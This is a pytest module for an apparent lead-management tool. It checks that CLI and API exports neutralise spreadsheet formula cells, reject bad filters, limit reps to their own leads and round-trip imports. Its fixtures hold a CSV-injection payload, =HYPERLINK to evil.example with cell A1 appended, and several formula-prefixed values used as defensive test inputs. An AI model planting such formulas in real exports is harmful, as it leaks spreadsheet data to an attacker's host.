"""Exports and the errors file as users meet them (issue 12, items 1 and 2): ``baton
export`` and ``baton import`` on a real SQLite file, and ``/api/v1/exports/...`` over
HTTP with real tokens.

What must hold in both shells: a formula cell comes out neutralised (``'=HYPERLINK``)
in leads, handoffs and activities; an E.164 phone comes out as it is; a bad filter is
an error (exit code 1, or a 422 problem+json) that lists the allowed values, never an
empty file; a rep downloads only their own; an export imports back to the same
values; an import's errors file, mended, imports as it is.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from tests.conftest import bearer, token_for
from typer.testing import CliRunner

from baton.api.app import create_app
from baton.cli import app
from baton.domain.access import operator
from baton.domain.activities import ActivityCreate
from baton.domain.leads import LeadCreate
from baton.domain.reps import RepCreate, TeamCreate
from baton.services import contracts as contract_service
from baton.services import handoffs as handoff_service
from baton.services import reps as rep_service
from baton.services.activities import ingest_activity
from baton.services.context import Context
from baton.services.leads import capture_lead

EXAMPLE = Path(__file__).parents[2] / "contracts" / "example.yaml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OP = operator("test")
ALWAYS = "mon-sun=00:00-24:00"


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- the command line -------------------------------------------------------------------


@pytest.fixture
def runner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.setenv("BATON_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    monkeypatch.delenv("BATON_ENV", raising=False)
    monkeypatch.chdir(tmp_path)
    return CliRunner()


def run(runner: CliRunner, *args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, (args, result.output)
    return result.stdout


@pytest.fixture
def filled(runner: CliRunner, tmp_path: Path) -> CliRunner:
    """The example contract active, Ana working around the clock in team na, and Dana
    (a formula as her first name) asking for a demo: an MQL handed to Ana."""
    run(runner, "contract", "create", str(EXAMPLE), "--actor", "maria")
    run(runner, "contract", "approve", "1", "--role", "marketing", "--actor", "maria")
    run(runner, "contract", "approve", "1", "--role", "sales", "--actor", "sam")
    run(runner, "contract", "activate", "1")
    run(runner, "team", "add", "na", "--manager", "sam@lumen.example")
    run(
        runner,
        "rep",
        "add",
        "ana@lumen.example",
        "--name",
        "Ana",
        "--team",
        "na",
        "--hours",
        ALWAYS,
    )
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["Email", "First Name", "Last Name", "Company", "Phone", "Country", "Title"],
                [
                    "dana@northwind.example.com",
                    HYPERLINK,
                    "Reyes",
                    "+Northwind",
                    "+1 415 555 0134",
                    "US",
                    "VP Operations",
                ],
                ["lee@fabrikam.example.com", "Lee", "-Chen", "Fabrikam", "", "GB", "Analyst"],
            ]
        )
    now = datetime.now(UTC).isoformat(timespec="seconds")
    events = tmp_path / "events.csv"
    events.write_text(
        "email,type,occurred_at,idempotency_key,url\n"
        f"dana@northwind.example.com,demo_request,{now},=e1,@evil\n"
    )
    run(runner, "import", "leads", str(leads))
    run(runner, "import", "activities", str(events))
    return runner


def test_every_cli_export_neutralises_formula_cells(filled: CliRunner) -> None:
    leads = {r["email"]: r for r in table(run(filled, "export", "leads"))}
    dana = leads["dana@northwind.example.com"]
    assert (dana["first_name"], dana["company"]) == ("'" + HYPERLINK, "'+Northwind")
    assert dana["phone"] == "+14155550134"  # E.164: written as it is
    assert (dana["stage"], dana["owner_rep_email"]) == ("mql", "ana@lumen.example")
    assert leads["lee@fabrikam.example.com"]["last_name"] == "'-Chen"

    [handoff] = table(run(filled, "export", "handoffs", "--status", "assigned"))
    assert (handoff["lead_name"], handoff["rep_name"]) == ("'" + HYPERLINK + " Reyes", "Ana")
    assert handoff["lead_company"] == "'+Northwind"

    [event] = table(run(filled, "export", "activities", "--type", "demo_request"))
    assert event["idempotency_key"] == "'=e1"
    assert json.loads(event["properties"]) == {"url": "@evil"}


def test_an_invalid_export_filter_exits_non_zero_and_writes_no_file(
    filled: CliRunner, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    for args, words in (
        (["leads", "--stage", "bogus"], "--stage: unknown value 'bogus'"),
        (["leads", "--grade", "E"], "use one of 'A', 'B', 'C' or 'D'"),
        (["leads", "--owner", "nobody@lumen.example"], "--owner: no rep has the email"),
        (["handoffs", "--status", "done"], "--status: unknown value 'done'"),
        (["activities", "--type", "page_vew"], "did you mean 'page_view'?"),
        (["activities", "--since", "2026-03-02", "--until", "2026-03-01"], "--until:"),
        (["leads", "--format", "xlsx"], "--format:"),
    ):
        result = filled.invoke(app, ["export", *args, "--output", str(out)])
        assert result.exit_code == 1, (args, result.output)
        assert words in " ".join(result.output.split()), (args, result.output)
        assert "Traceback" not in result.output
        assert not out.exists(), "no empty file that reads as 'nothing to export'"
    assert "'lead', 'mql'" in filled.invoke(app, ["export", "leads", "--stage", "x"]).output


def test_a_cli_export_imports_back_to_the_same_leads(
    filled: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    exported = tmp_path / "export.csv"
    assert "2 leads written" in run(filled, "export", "leads", "-o", str(exported))
    monkeypatch.setenv("BATON_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")

    imported = filled.invoke(app, ["import", "leads", str(exported)])

    assert imported.exit_code == 0, imported.output
    assert "Columns left out:" in imported.output and "owner_rep_email" in imported.output
    back = {
        lead["email"]: lead
        for lead in map(
            json.loads, run(filled, "export", "leads", "--format", "jsonl").splitlines()
        )
    }
    assert back["dana@northwind.example.com"]["first_name"] == HYPERLINK
    assert back["dana@northwind.example.com"]["company"] == "+Northwind"
    assert back["dana@northwind.example.com"]["phone"] == "+14155550134"
    assert back["lee@fabrikam.example.com"]["last_name"] == "-Chen"
    assert back["dana@northwind.example.com"]["attributes"] == {}


def test_the_errors_file_is_mended_and_imported_as_it_is(runner: CliRunner, tmp_path: Path) -> None:
    source = tmp_path / "leads.csv"
    source.write_text(
        "Email,First Name,Company,Phone,Shoe Size\n"
        "ann@acme.example.com,Ann,Acme,,41\n"
        "not-an-email,Bob,=Beta,,42\n"
        "cy@gamma.example.com,Cy,Gamma,,43\n"
        ",Di,Delta,not a phone,44\n"
    )
    first = runner.invoke(app, ["import", "leads", str(source)])
    assert first.exit_code == 1
    assert "mend them there and import that file as it is" in " ".join(first.output.split())
    errors_file = tmp_path / "leads.csv.errors.csv"
    rows = table(errors_file.read_text())
    assert list(rows[0]) == [
        "baton_line",
        "baton_errors",
        "Email",
        "First Name",
        "Company",
        "Phone",
        "Shoe Size",
    ]
    assert [(r["baton_line"], r["Email"], r["Company"]) for r in rows] == [
        ("3", "not-an-email", "'=Beta"),
        ("5", "", "Delta"),
    ]

    rows[0]["Email"] = "bob@beta.example.com"
    rows[1]["Email"], rows[1]["Phone"] = "di@delta.example.com", "+44 20 7946 0123"
    with errors_file.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    second = runner.invoke(app, ["import", "leads", str(errors_file)])

    assert second.exit_code == 0, second.output
    assert "Columns left out: baton_line, baton_errors" in second.output
    leads = [
        json.loads(line)
        for line in run(runner, "export", "leads", "--format", "jsonl").splitlines()
    ]
    assert sorted(lead["email"] for lead in leads) == [
        "ann@acme.example.com",
        "bob@beta.example.com",
        "cy@gamma.example.com",
        "di@delta.example.com",
    ], "every row landed, none twice"
    bob = next(lead for lead in leads if lead["email"] == "bob@beta.example.com")
    assert (bob["company"], bob["attributes"]) == ("=Beta", {"shoe_size": "42"})


# --- the API ----------------------------------------------------------------------------


@pytest.fixture
def api_floor(sqlite_ctx: Context) -> Context:
    """Ana (team na) holds Dana's handoff; Jonas (DE) waits in the queue: nobody in EMEA."""
    ctx = sqlite_ctx
    version = contract_service.create_contract(ctx, EXAMPLE.read_text(), actor=OP).version
    contract_service.approve_contract(ctx, version, role="marketing", actor=operator("maria"))
    contract_service.approve_contract(ctx, version, role="sales", actor=operator("sam"))
    contract_service.activate_contract(ctx, version, actor=OP)
    rep_service.create_team(ctx, TeamCreate(name="na", manager_email="sam@lumen.example"), actor=OP)
    rep_service.create_rep(
        ctx, RepCreate(email="ana@lumen.example", name="Ana", team="na"), actor=OP
    )
    for email, first, country, key in (
        ("dana@northwind.com", HYPERLINK, "US", "=evt-1"),
        ("jonas@northwind.de", "Jonas", "DE", "evt-2"),
    ):
        data = {"email": email, "first_name": first, "country": country, "phone": "+4930123456"}
        capture_lead(ctx, LeadCreate.model_validate(data), actor=OP)
        event = {"email": email, "type": "demo_request", "occurred_at": ctx.clock.now()}
        ingest_activity(
            ctx, ActivityCreate.model_validate({**event, "idempotency_key": key}), actor=OP
        )
    return ctx


def test_api_exports_are_streamed_csv_files_with_formula_cells_neutralised(
    api_floor: Context,
) -> None:
    api = TestClient(create_app(api_floor), headers=bearer(token_for(api_floor, "marketing")))

    leads = api.get("/api/v1/exports/leads")
    handoffs = api.get("/api/v1/exports/handoffs", params={"status": ["assigned", "queued"]})
    events = api.get("/api/v1/exports/activities", params={"type": "demo_request"})

    for response, kind in ((leads, "leads"), (handoffs, "handoffs"), (events, "activities")):
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        disposition = response.headers["content-disposition"]
        assert disposition.startswith(
            f'attachment; filename="baton-{kind}-'
        ) and disposition.endswith('.csv"')
    dana = next(r for r in table(leads.text) if r["email"] == "dana@northwind.com")
    assert (dana["first_name"], dana["phone"]) == ("'" + HYPERLINK, "+4930123456")
    by_lead = {r["lead_email"]: r for r in table(handoffs.text)}
    assert by_lead["dana@northwind.com"]["lead_name"] == "'" + HYPERLINK
    assert (by_lead["dana@northwind.com"]["status"], by_lead["jonas@northwind.de"]["status"]) == (
        "assigned",
        "queued",
    )
    assert {r["idempotency_key"] for r in table(events.text)} == {"'=evt-1", "evt-2"}
    lines = api.get("/api/v1/exports/leads", params={"format": "jsonl"})
    assert lines.headers["content-type"] == "application/x-ndjson"
    assert {json.loads(line)["first_name"] for line in lines.text.splitlines()} == {
        HYPERLINK,
        "Jonas",
    }


@pytest.mark.parametrize(
    ("path", "params", "loc", "words"),
    [
        ("leads", {"stage": "bogus"}, "stage[0]", "'lead', 'mql'"),
        ("leads", {"owner": "nobody@lumen.example"}, "owner", "no rep has the email"),
        ("leads", {"since": "yesterday"}, "since", ""),
        ("handoffs", {"status": "done"}, "status[0]", "'queued'"),
        ("activities", {"type": "page_vew"}, "type[0]", "'page_view'"),
        ("activities", {"since": "2026-03-02", "until": "2026-03-01"}, "until", "after since"),
    ],
)
def test_an_invalid_filter_is_a_422_problem(
    api_floor: Context, path: str, params: dict[str, str], loc: str, words: str
) -> None:
    api = TestClient(create_app(api_floor), headers=bearer(token_for(api_floor, "admin")))

    response = api.get(f"/api/v1/exports/{path}", params=params)

    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    [problem] = response.json()["errors"]
    assert problem["loc"] == loc and words in problem["message"]


def test_a_reps_export_holds_only_their_leads(api_floor: Context) -> None:
    rep = TestClient(
        create_app(api_floor),
        headers=bearer(token_for(api_floor, "rep", rep_email="ana@lumen.example")),
    )
    [jonas] = handoff_service.handoff_queue(api_floor, actor=OP)

    leads = table(rep.get("/api/v1/exports/leads").text)
    handoffs = table(rep.get("/api/v1/exports/handoffs").text)
    events = table(rep.get("/api/v1/exports/activities").text)

    assert [r["email"] for r in leads] == ["dana@northwind.com"]
    assert [r["lead_email"] for r in handoffs] == ["dana@northwind.com"]
    assert {r["lead_email"] for r in events} == {"dana@northwind.com"}
    assert (
        rep.get("/api/v1/exports/activities", params={"lead_id": jonas.lead_id}).status_code == 404
    )
